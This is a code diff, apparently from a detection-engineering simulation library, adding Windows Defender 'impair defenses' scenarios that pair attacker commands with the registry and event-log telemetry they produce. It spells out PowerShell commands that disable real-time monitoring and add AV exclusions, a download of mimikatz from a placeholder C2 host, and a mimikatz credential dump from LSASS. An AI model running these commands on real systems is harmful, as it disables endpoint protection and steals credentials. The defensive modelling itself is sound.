@@ -2,6 +2,10 @@ import { t, v } from "../dsl";
 import { trustControls } from "./defense-evasion-trust";
 
 const DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender";
+/** Defender's own configuration (written only by MsMpEng.exe). */
+const MP = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender";
+const RTP = `${MP}\\Real-Time Protection`;
+const EXCLUSIONS = `${MP}\\Exclusions`;
 const EXPLORER_ADVANCED = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced";
 
 /** Defense evasion, continued: alternate authentication, trust controls, impairing defenses, hiding. */
@@ -156,10 +160,35 @@ export const defenseEvasion3 = [
   ]),
   ...trustControls,
   t("T1562", "Impair defenses", "Security tooling weakened before the main action.", [
-    v("set-mppreference", [{ ps: "Set-MpPreference -DisableRealtimeMonitoring $true" }], {
-      shell: "ps",
-      elevated: true,
-    }),
+    // Defender's service writes the value itself (Sysmon 13 from MsMpEng.exe), then logs 5007 and 5001.
+    v(
+      "set-mppreference",
+      [
+        {
+          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
+          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
+        },
+      ],
+      { shell: "ps", elevated: true },
+    ),
+    // Tamper Protection refuses the change (5013, nothing written); local exclusions are not protected on an
+    // unmanaged device, so the operator falls back to excluding the staging folder.
+    v(
+      "tamper-blocked-exclusion",
+      [
+        {
+          ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
+          defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
+          tamper: true,
+        },
+        { ps: "Get-MpComputerStatus | Select RealTimeProtectionEnabled, IsTamperProtected" },
+        {
+          ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData\\{{name}}'",
+          defender: [[`${EXCLUSIONS}\\Paths`, "C:\\ProgramData\\{{name}}", "0"]],
+        },
+      ],
+      { shell: "ps", elevated: true },
+    ),
   ]),
   t(
     "T1562.001",
@@ -171,21 +200,72 @@ export const defenseEvasion3 = [
         [
           {
             ps: "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true",
+            defender: [
+              [RTP, "DisableRealtimeMonitoring", "1"],
+              [RTP, "DisableBehaviorMonitoring", "1"],
+              [RTP, "DisableIOAVProtection", "1"],
+            ],
           },
         ],
         { shell: "ps", elevated: true },
       ),
       v(
         "add-exclusion",
-        [{ ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData', $env:TEMP -ExclusionExtension exe,dll" }],
+        [
+          {
+            ps: "Add-MpPreference -ExclusionPath 'C:\\ProgramData', $env:TEMP -ExclusionExtension exe,dll",
+            defender: [
+              [`${EXCLUSIONS}\\Paths`, "C:\\ProgramData", "0"],
+              [`${EXCLUSIONS}\\Paths`, "{{tmp}}", "0"],
+              [`${EXCLUSIONS}\\Extensions`, "exe", "0"],
+              [`${EXCLUSIONS}\\Extensions`, "dll", "0"],
+            ],
+          },
+        ],
         { shell: "ps", elevated: true },
       ),
+      // Real-time protection quarantines the freshly downloaded mimikatz (1116/1117); the operator turns it off
+      // and fetches the tool again (a sequence DFIR reports show again and again).
+      v(
+        "quarantined-then-disabled",
+        [
+          {
+            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
+            net: [["{{c2}}", 443]],
+            files: ["C:\\Users\\Public\\mimikatz.exe"],
+            then: [
+              {
+                id: "av",
+                kind: "defender.detection",
+                path: "C:\\Users\\Public\\mimikatz.exe",
+                threat: "HackTool:Win32/Mimikatz.D",
+              },
+            ],
+          },
+          {
+            ps: "Set-MpPreference -DisableRealtimeMonitoring $true",
+            defender: [[RTP, "DisableRealtimeMonitoring", "1"]],
+          },
+          {
+            ps: "Invoke-WebRequest https://{{c2}}/m.exe -OutFile C:\\Users\\Public\\mimikatz.exe",
+            net: [["{{c2}}", 443]],
+            files: ["C:\\Users\\Public\\mimikatz.exe"],
+          },
+          {
+            cmd: 'C:\\Users\\Public\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
+            access: ["@lsass", "0x1010"],
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+      // A policy value written with reg.exe: Defender picks the policy up and logs 5007.
       v(
         "reg-disableantispyware",
         [
           {
             cmd: `reg add "${DEFENDER}" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
             reg: [[DEFENDER, "DisableAntiSpyware", "1", "REG_DWORD"]],
+            defender: [[DEFENDER, "DisableAntiSpyware", "1"]],
           },
         ],
         { elevated: true },
